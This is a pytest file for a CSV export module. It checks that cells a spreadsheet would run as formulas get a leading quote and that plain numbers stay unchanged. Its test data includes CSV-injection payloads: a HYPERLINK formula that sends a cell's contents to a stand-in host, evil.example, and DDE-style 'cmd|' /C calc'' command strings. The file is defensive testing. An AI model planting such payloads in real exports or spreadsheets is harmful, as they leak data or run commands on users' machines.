"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from campaigns.reports import csvexport


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("ecommerce", "ecommerce"),
    ("-5.00", "-5.00"),  # a plain number is data, not a formula
    (-5, -5),
    (0.25, 0.25),
])
def test_formula_cells_get_a_leading_quote_and_data_is_kept(value, written):
    buffer = io.StringIO()
    csvexport.writer(buffer).writerow(["x", value])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["x", str(written)]
